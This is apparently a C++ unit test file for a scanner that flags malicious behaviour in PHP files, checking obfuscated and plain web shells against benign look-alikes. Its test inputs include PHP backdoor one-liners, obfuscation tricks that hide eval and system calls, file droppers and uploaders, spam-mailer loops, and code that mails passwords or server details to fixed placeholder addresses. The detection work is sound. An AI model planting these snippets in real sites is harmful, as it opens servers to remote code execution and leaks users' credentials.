// Behaviour analysis of one folded PHP layer (behaviour.cc): what the code does (request input
// reaching execution, a dropper writing code, mail sent away) is a trait; the same functions used
// as every shop uses them are not. JavaScript and HTML: behaviour_js_test.cc.
#include <gtest/gtest.h>

#include <algorithm>
#include <string>
#include <vector>

#include "webroot/code_lexer.h"

namespace tq::webroot {
namespace {

std::vector<CodeTrait> Php(std::string_view src) {
  LexResult r = LexPhp(src, false, LexLimits());
  std::vector<CodeTrait> out;
  AnalyzePhp(r.tokens, "php", out);
  return out;
}

int Strongest(const std::vector<CodeTrait>& t, std::string_view family = "") {
  int s = 0;
  for (const CodeTrait& c : t)
    if (family.empty() || c.family == family) s = std::max(s, c.strength);
  return s;
}

TEST(Behaviour, RequestInputReachingExecutionIsStrong) {
  EXPECT_GE(Strongest(Php("<?php eval($_POST['c']);"), "exec"), 3);
  EXPECT_GE(Strongest(Php("<?php $f = $_GET['f']; system($f);"), "exec"), 3);
  // The same functions on the application's own values are not an exec behaviour.
  EXPECT_LT(Strongest(Php("<?php system('/usr/bin/convert ' . escapeshellarg($path));"), "exec"),
            3);
  EXPECT_EQ(Strongest(Php("<?php echo htmlspecialchars($_GET['q']);"), "exec"), 0);
}

// Whole pipeline (lex, fold, decode, analyse): the strongest trait of one family.
int Pipeline(std::string_view src, std::string_view family = "") {
  return Strongest(Normalize(src, CodeKind::kPhp).traits, family);
}

TEST(Behaviour, ShortOpenTagsAndPhpScriptElementsAreCode) {
  EXPECT_GE(Pipeline("<?@include($_POST[\"code\"]);?>", "exec"), 4);
  EXPECT_GE(Pipeline("<?$x=$_GET['c'];system($x);?>", "exec"), 4);
  EXPECT_GE(Pipeline("<script language=\"php\">eval($_POST['z']);</script>", "exec"), 4);
  // An XML declaration is not a short tag; a plain <script> is not PHP.
  EXPECT_EQ(Pipeline("<?xml version=\"1.0\"?><a>eval($_POST['z'])</a>", "exec"), 0);
  EXPECT_EQ(Pipeline("<html><script>eval(location.hash)</script></html>", "exec"), 0);
}

TEST(Behaviour, BareWordsBesideBitwiseOperatorsFold) {
  // getenv spelled as '      ' | get.'env': the bare word is a string next to '.'.
  EXPECT_GE(Pipeline("<?php $f = '      ' | get . 'env'; eval($f('HTTP_X_CMD'));", "exec"), 4);
  auto n = Normalize("<?php $n = '   ' | abc . 'def'; echo $n;", CodeKind::kPhp);
  ASSERT_FALSE(n.layers.empty());
  EXPECT_NE(n.layers[0].text.find("'abcdef'"), std::string::npos) << n.layers[0].text;
}

TEST(Behaviour, FunctionsTakenFromArraysOrReflectionOnRequestInput) {
  EXPECT_GE(Pipeline("<?php $i['w'] = 'assert'; $a[] = $i; $a[0]['w']($_POST['k']);", "exec"), 3);
  EXPECT_GE(Pipeline("<?php $f = new ReflectionFunction($_GET['m']);"
                     " echo $f->invokeArgs(array($_GET['c']));",
                     "exec"),
            4);
  // A handler table called on the application's own values.
  EXPECT_LT(Pipeline("<?php $h = ['a' => 'strtoupper']; echo $h['a']($name);", "exec"), 3);
  EXPECT_LT(Pipeline("<?php $r = new ReflectionFunction('strlen'); echo $r->getName();", "exec"),
            3);
}

TEST(Behaviour, SinkNamesHiddenByAnEncodingAndComputedCallbacks) {
  EXPECT_GE(Pipeline("<?php $s = $db->query('SELECT 1');"
                     " $r = $s->fetchAll(PDO::FETCH_FUNC, str_rot13('nffreg'));",
                     "exec"),
            3);
  EXPECT_GE(Pipeline("<?php $f = pack('H*', '13' . '3f12') ^ $key;"
                     " array_intersect_uassoc(array($_REQUEST['p'] => ''), array(1), $f);",
                     "exec"),
            3);
  EXPECT_GE(Pipeline("<?php $r = 'c'.'o'.'p'.'y'; $r($_FILES[f][tmp_name], $_FILES[f][name]);"), 3);
  EXPECT_GE(Pipeline("<?php mb_ereg_replace_callback('.+', create_function('$a',"
                     " 'return assert($a[0]);'), $_REQUEST['p']);",
                     "exec"),
            4);
  // rot13 of an ordinary word, a callback the code names in plain.
  EXPECT_LT(Pipeline("<?php usort($rows, str_rot13('pbzcner'));"), 3);
  EXPECT_LT(Pipeline("<?php array_intersect_uassoc($a, $b, 'strcasecmp');"), 3);
}

TEST(Behaviour, DroppersWritingPhpCode) {
  std::string payload = "<?php @eval($_POST['x']); ?>";
  std::string hex;
  for (unsigned char c : payload) {
    const char* d = "0123456789abcdef";
    hex += d[c >> 4], hex += d[c & 15];
  }
  EXPECT_GE(Pipeline("<?php fputs(fopen('a.php', 'w'), pack('H*', '" + hex + "'));", "upload"), 3);
  // The page it writes is analysed as PHP of its own.
  EXPECT_GE(Pipeline("<?php $p = '<title>x</title><?php system(\"$_GET[cmd]\"); ?>';"
                     " $r = fopen('../g.php', 'w'); fwrite($r, $p);",
                     "exec"),
            4);
  // A hex literal echoed: decoded and read as code.
  EXPECT_GE(Pipeline("<?php echo sprintf('" + hex.substr(12) + "');", "exec"), 4);
  // A cache writer putting generated PHP in a file is at most medium.
  EXPECT_LT(
      Pipeline("<?php file_put_contents($cache, '<?php return ' . var_export($c, true) . ';');"),
      3);
}

TEST(Behaviour, FunctionBodiesAreWholeBlocks) {
  // The parameter is the request's in every statement of the body, not only the first.
  EXPECT_GE(Pipeline("<?php $c = trim($_POST['x']); $i = s2a($c);"
                     " function s2a($d) { if ($d == '') return array(); @eval(\"\\$a = $d;\");"
                     " return $a; }",
                     "exec"),
            4);
}

TEST(Behaviour, ExtractedRequestVariablesReachSinks) {
  EXPECT_GE(Pipeline("<?php if ($cmd == 'run') { echo system(\"$file\"); }"
                     " extract($HTTP_POST_VARS);",
                     "exec"),
            4);
  // Without extract the same variable is the application's.
  EXPECT_LT(Pipeline("<?php if ($cmd == 'run') { echo system(\"$file\"); }", "exec"), 3);
  // A variable the scope assigns itself is not the request's.
  EXPECT_LT(Pipeline("<?php extract($_POST); $file = '/usr/bin/uptime'; system($file);", "exec"),
            3);
}

TEST(Behaviour, StoreFrameworkRequestAccessorsAreRequestInput) {
  EXPECT_GE(Pipeline("<?php class C extends Mage_Core_Controller_Front_Action { function a() {"
                     " $c = $this->getRequest()->getParam('c'); eval($c); } }",
                     "exec"),
            4);
  EXPECT_GE(Pipeline("<?php echo shell_exec($request->input('c'));", "exec"), 4);
  EXPECT_GE(Pipeline("<?php system($request->query->get('c'));", "exec"), 4);
  EXPECT_GE(Pipeline("<?php eval(Tools::getValue('c'));", "exec"), 4);
  EXPECT_GE(
      Pipeline("<?php $app = JFactory::getApplication(); system($app->input->get('c'));", "exec"),
      4);
  // Configuration getters and other objects' get() are the application's values.
  EXPECT_LT(Pipeline("<?php system($this->config->get('convert_path') . ' -resize 50');", "exec"),
            3);
  EXPECT_LT(Pipeline("<?php eval($cache->getValue('compiled'));", "exec"), 3);
}

TEST(Behaviour, UploadersAndRequestCodeRunThroughAFile) {
  // The one-line uploader: the file saved under the client's name in the script's folder.
  EXPECT_GE(Pipeline("<?php move_uploaded_file($_FILES['u']['tmp_name'],"
                     " dirname(__FILE__) . '/' . $_FILES['u']['name']);",
                     "upload"),
            3);
  // The name through basename() or a sanitiser is the code's choice of place: not high.
  EXPECT_LT(Pipeline("<?php move_uploaded_file($_FILES['u']['tmp_name'],"
                     " $dir . '/' . sanitize_file_name($_FILES['u']['name']));",
                     "upload"),
            3);
  // Request input written to a file that is then included runs as PHP.
  EXPECT_GE(Pipeline("<?php $t = tempnam('/tmp', 'x'); file_put_contents($t, $_POST['c']);"
                     " include $t;",
                     "exec"),
            4);
  EXPECT_GE(Pipeline("<?php $f = fopen('/tmp/.c.php', 'w'); fwrite($f, $_POST['b']);"
                     " fclose($f); include '/tmp/.c.php';",
                     "exec"),
            4);
  // A cache of the application's own values, included back, is not.
  EXPECT_LT(Pipeline("<?php file_put_contents($cache, '<?php return ' . var_export($cfg, true) ."
                     " ';'); include $cache;",
                     "exec"),
            3);
  // PHP kept in a file named as an image, included: a loader. Inline SVG icons and CSS are
  // included by templates, and are not that.
  EXPECT_GE(Pipeline("<?php @include \"\\x2fvar\\x2fwww\\x2fmedia\\x2ffavicon_3a.ico\";", "exec"),
            3);
  EXPECT_LT(Pipeline("<?php include __DIR__ . '/icons/cart.svg'; include 'style.css';", "exec"), 3);
  // The client's name kept in a variable and joined to a directory the code resolved first
  // (realpath($dir) . '/' . $name): the call ends before the name, which stays the client's.
  EXPECT_GE(Pipeline("<?php $up = $_FILES['f']; $name = $up['name'];"
                     " $to = realpath($_POST['d']) . DIRECTORY_SEPARATOR . $name;"
                     " move_uploaded_file($up['tmp_name'], $to);",
                     "upload"),
            3);
  // The name inside the call (realpath of the whole path, a renamer) is the code's choice.
  EXPECT_LT(Pipeline("<?php $up = $_FILES['f'];"
                     " $to = $dir . '/' . make_unique(realpath($dir) . $up['name']);"
                     " move_uploaded_file($up['tmp_name'], $to);",
                     "upload"),
            3);
  // parse_str of the query string fills its result array with request input.
  EXPECT_GE(Pipeline("<?php parse_str($_SERVER['QUERY_STRING'], $o); system($o['c']);", "exec"), 4);
}

TEST(Behaviour, VariableVariablesAndDecodedCodeHandedToEval) {
  // $$n names $fn, which holds a decoder's name built from pieces; what it decodes is
  // evaluated: decoding and running hidden code.
  EXPECT_GE(Pipeline("<?php class K { function run() { $a = 'ba'; $b = 'se64_de'; $c = 'code';"
                     " $fn = $a . $b . $c; $n = \"fn\"; $p = $$n('ZWNobyAxOw=='); @eval($p); } }",
                     "exec"),
            3);
  // A decoded constant printed (an inline image) is data, not code run.
  EXPECT_LT(
      Pipeline("<?php $logo = base64_decode('iVBORw0KGgoAAAANSUhEUg=='); echo $logo;", "exec"), 3);
}

TEST(Behaviour, DatabaseConsolesMailersAndBeacons) {
  EXPECT_GE(Pipeline("<?php $h = $_REQUEST['host']; $c = mysql_connect($h, $_REQUEST['u'],"
                     " $_REQUEST['p']); $r = mysql_query($_POST['sql']);",
                     "database"),
            3);
  EXPECT_GE(Pipeline("<?php $db = new mysqli($_POST['h'], $_POST['u'], $_POST['p']);"
                     " $db->query($_POST['q']);",
                     "database"),
            3);
  // A query with a request value inside a fixed template is not a console.
  EXPECT_LT(Pipeline("<?php $c = mysqli_connect('localhost', 'shop', $pw);"
                     " mysqli_query($c, 'SELECT * FROM t WHERE id=' . (int)$_GET['id']);",
                     "database"),
            2);
  EXPECT_GE(Pipeline("<?php set_time_limit(0); $l = file('list.txt');"
                     " foreach ($l as $to) { mail(trim($to), $subj, $body, $hdr); }",
                     "mailer"),
            3);
  EXPECT_LT(Pipeline("<?php mail($admin, 'Order', $text);"), 2);
  // Recipients' mail exchangers looked up and sent RCPT TO over the page's own socket, with
  // the time limit lifted: a list verifier or direct-to-MX mailer.
  EXPECT_GE(
      Pipeline("<?php set_time_limit(0); foreach (explode(\"\\n\", $_POST['l']) as $a) {"
               " getmxrr(substr(strrchr($a, '@'), 1), $mx); $s = fsockopen($mx[0], 25);"
               " fwrite($s, \"HELO x\\r\\n\"); fwrite($s, 'RCPT TO: <' . $a . \">\\r\\n\"); }",
               "mailer"),
      3);
  // A mail library talking SMTP to its one configured relay looks no MX up.
  EXPECT_LT(Pipeline("<?php set_time_limit(300); $s = stream_socket_client($this->host . ':' ."
                     " $this->port); fwrite($s, 'RCPT TO:<' . $to . \">\\r\\n\");",
                     "mailer"),
            2);
  EXPECT_GE(Pipeline("<?php $m = $_SERVER['DOCUMENT_ROOT'] . ' ' . $_SERVER['HTTP_HOST'];"
                     " mail('drop@example.net', 'new', $m);",
                     "exfil"),
            3);
}

TEST(Behaviour, OwnDecoderFunctionsAndWindowsShellObjects) {
  // A decoder written in the file (a loop of chr/hexdec/substr), its output called.
  const char* decoder =
      "<?php function dx($s, $k) { $t = ''; for ($i = 0; $i < strlen($s); $i += 2) {"
      " $t .= chr(hexdec(substr($s, $i, 2)) - $k); } return $t; }";
  EXPECT_GE(
      Pipeline(std::string(decoder) + " $f = dx('6A767C', '3'); $f(dx('6776', '5'));", "exec"), 3);
  EXPECT_GE(Pipeline(std::string(decoder) + " eval(dx('6776666E28', '4'));", "exec"), 3);
  // A closure that decodes, called on data: a codec, not a hidden name.
  EXPECT_LT(Pipeline("<?php $decode = function ($v) { return rawurldecode($v); };"
                     " $key = $decode($parts[0]);",
                     "exec"),
            3);
  EXPECT_GE(Pipeline("<?php $sh = new COM('WScript.Shell'); $sh->Run($cmd);", "exec"), 3);
  EXPECT_LT(Pipeline("<?php $w = new COM('Word.Application'); $w->Visible = 1;", "exec"), 3);
}

TEST(Behaviour, PasswordsMailedToAFixedAddress) {
  EXPECT_GE(Strongest(Php("<?php mail('collector@example.net', 'login', 'user ' . $username ."
                          " ' pass ' . $password);"),
                      "exfil"),
            3);
  EXPECT_GE(Strongest(Php("<?php mail(\"a@example.net\", 'x', $_POST['pass']);"), "exfil"), 3);
  // A password reset sent to the account's own address is what every shop does.
  EXPECT_EQ(Strongest(Php("<?php mail($user_email, 'Your new password', 'It is ' . $password);"),
                      "exfil"),
            0);
  // A fixed support address with no credential in the message is not it either.
  EXPECT_EQ(Strongest(Php("<?php mail('support@example.net', 'Order', $summary);"), "exfil"), 0);
}

TEST(Behaviour, IncludeThroughADataWrapperRunsTheRequestValue) {
  EXPECT_GE(Pipeline("<?php include 'data://text/plain;base64,' . $_GET['c'];", "exec"), 4);
  EXPECT_GE(Pipeline("<?php require_once('data:text/plain,' . $_POST['p']);", "exec"), 4);
  // A fixed directory in front of the request value picks one of the site's files.
  EXPECT_EQ(Pipeline("<?php include 'templates/' . basename($_GET['page']) . '.php';", "exec"), 2);
}

}  // namespace
}  // namespace tq::webroot
